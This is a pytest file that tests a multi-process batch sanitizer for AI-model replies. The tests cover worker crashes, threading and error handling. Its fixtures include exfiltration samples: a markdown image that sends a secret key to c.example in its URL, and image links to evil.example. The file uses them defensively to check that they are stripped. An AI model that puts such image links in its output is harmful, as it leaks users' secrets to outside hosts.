"""`rendersafe.batch.ProcessPool`: `sanitize_arrow` in real worker processes gives what
it gives in the caller, for the lake and for every bad cell; calls from many threads
each get their own rows back; a worker killed mid-batch loses no row; errors arrive as
the caller's exceptions; and a script with no `__main__` guard can use it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from lake_cases import EVIL, KEY, POLICY, bad_rows, lake, mismatches
from rendersafe import Policy, sanitize
from rendersafe.batch import PLACEHOLDER, ColumnError, ProcessPool, sanitize_arrow
from rendersafe.batch.pool import _Worker

LEAK = f"![k](https://c.example/p.png?k={KEY})"
MESSAGES = json.dumps([{"role": "user", "content": f"my key is {KEY}"}])


@pytest.fixture(scope="module")
def pool() -> Iterator[ProcessPool]:
    with ProcessPool(POLICY, processes=2) as running:
        yield running


def test_the_lake_equals_sanitize_row_by_row(pool: ProcessPool) -> None:
    table = pq.read_table(lake().replies)
    result = pool(table["reply"], table["messages"])
    assert mismatches(table["id"].to_pylist(), result.to_pylist()) == []


def test_bad_cells_get_what_they_get_in_the_caller(pool: ProcessPool) -> None:
    replies, conversations = zip(*bad_rows(), strict=True)
    got = pool(list(replies), list(conversations))
    assert got.to_pylist() == sanitize_arrow(replies, conversations, policy=POLICY).to_pylist()
    assert got.to_pylist()[1]["text"] == PLACEHOLDER


def test_calls_from_many_threads_each_get_their_own_rows(pool: ProcessPool) -> None:
    batches = [[f"reply {n}", LEAK, f"![x](https://evil.example/{n}.png)"] for n in range(8)]
    results: dict[int, list[str | None]] = {}

    def call(n: int) -> None:
        answer = pool(batches[n], [MESSAGES] * 3)
        results[n] = answer.field("text").to_pylist()

    threads = [threading.Thread(target=call, args=(n,)) for n in range(len(batches))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results == {
        n: [sanitize(text, conversation=json.loads(MESSAGES)) for text in batch]
        for n, batch in enumerate(batches)
    }
    assert results[0][0] == "reply 0"


def test_a_killed_worker_loses_no_row_and_is_replaced() -> None:
    with ProcessPool(POLICY, processes=1) as pool:
        pool([EVIL])
        (worker,) = _workers(pool)
        os.kill(worker.process.pid, signal.SIGKILL)
        worker.process.wait()
        assert pool([EVIL, "fine"]).field("text").to_pylist() == [sanitize(EVIL), "fine"]
        (replacement,) = _workers(pool)
        assert replacement.process.pid != worker.process.pid
        assert pool([LEAK], [MESSAGES]).field("changed").to_pylist() == [True]


def test_no_worker_to_replace_a_dead_one_still_loses_no_row(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with ProcessPool(POLICY, processes=1) as pool:
        (worker,) = _workers(pool)
        os.kill(worker.process.pid, signal.SIGKILL)
        worker.process.wait()

        def cannot_start(self: _Worker, policy: Policy) -> None:
            raise OSError("no processes left")

        monkeypatch.setattr(_Worker, "__init__", cannot_start)
        for _ in range(2):
            assert pool([EVIL, "fine"]).field("text").to_pylist() == [sanitize(EVIL), "fine"]


def test_a_column_error_is_raised_in_the_caller(pool: ProcessPool) -> None:
    with pytest.raises(ColumnError, match="2 replies but 1 conversations"):
        pool(["a", "b"], [None])
    assert pool(["still serving"]).field("text").to_pylist() == ["still serving"]


def test_columns_that_cannot_be_pickled_are_sanitised_in_the_caller(pool: ProcessPool) -> None:
    replies = [EVIL, lambda: "not a reply", "fine"]
    got = pool(replies).to_pylist()
    assert got == sanitize_arrow(replies, policy=POLICY).to_pylist()
    assert [row["text"] for row in got] == [sanitize(EVIL), PLACEHOLDER, "fine"]


def test_the_policy_travels_to_the_workers() -> None:
    allowed = Policy(allowed_image_hosts=["evil.example"])
    with ProcessPool(allowed, processes=1) as pool:
        assert pool([EVIL]).field("text").to_pylist() == [EVIL]


def test_a_closed_pool_refuses_calls() -> None:
    pool = ProcessPool(processes=1)
    pool.close()
    pool.close()  # twice is harmless
    with pytest.raises(RuntimeError, match="closed"):
        pool(["a"])


@pytest.mark.parametrize("processes", [0, -1, 1.5, True, "2"])
def test_processes_must_be_a_positive_int(processes: object) -> None:
    with pytest.raises(ValueError, match="positive int"):
        ProcessPool(processes=processes)  # type: ignore[arg-type]


def test_a_script_without_a_main_guard_can_use_it(tmp_path: Path) -> None:
    script = tmp_path / "no_guard.py"
    script.write_text(
        textwrap.dedent(f"""
        from rendersafe.batch import ProcessPool
        pool = ProcessPool(processes=2)
        print(pool([{EVIL!r}]).field("text")[0])
        pool.close()
        """)
    )
    done = subprocess.run(
        [sys.executable, str(script)], capture_output=True, text=True, timeout=120, check=False
    )
    assert (done.returncode, done.stdout.strip()) == (0, sanitize(EVIL)), done.stderr


def _workers(pool: ProcessPool) -> list[_Worker]:
    """The pool's idle workers (none is busy between calls)."""
    workers = [worker for _ in range(pool.processes) if (worker := pool._idle.get())]
    for worker in workers:
        pool._idle.put(worker)
    return workers
